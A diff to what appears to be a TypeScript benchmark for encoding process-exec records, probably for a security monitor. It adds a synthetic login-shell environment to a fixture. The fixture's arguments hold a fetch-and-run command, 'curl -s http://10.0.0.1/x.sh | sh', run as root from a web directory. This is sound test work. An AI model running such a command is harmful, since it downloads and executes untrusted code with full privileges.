@@ -20,6 +20,14 @@ const RING_BYTES = 4 << 20;
 const FORKS = 5000;
 const SECOND = 1_000_000_000n;
 
+/** 30 variables, 1.5 KiB, as a login shell has them. */
+const ENVIRONMENT: readonly string[] = [
+  ...Array.from({ length: 27 }, (_, index) => `VARIABLE_${index}=${"/usr/local/share/x".repeat(1 + (index % 4))}`),
+  "SSH_CONNECTION=10.0.0.7 51514 10.0.0.1 22",
+  "LD_LIBRARY_PATH=/opt/app/lib",
+  "HISTFILE=/root/.bash_history",
+];
+
 function measure(name: string, run: () => void): Row {
   return { name, value: bestNs(TURNS, run), unit: "ns" };
 }
@@ -30,7 +38,8 @@ function execOf(pid: number): Uint8Array {
   const args = Buffer.from("bash\0-c\0curl -s http://10.0.0.1/x.sh | sh\0");
   // As a daemon of root has them: all.
   const all = (1n << 41n) - 1n;
-  const parts = { path: "/usr/bin/bash", cwd: "/var/www/html", filename: "/bin/bash", args, effective: all, permitted: all };
+  const env = Buffer.from(ENVIRONMENT.map((text) => `${text}\0`).join(""));
+  const parts = { path: "/usr/bin/bash", cwd: "/var/www/html", filename: "/bin/bash", args, env, effective: all, permitted: all };
   return new Uint8Array(execRecord(actor, parts));
 }
 
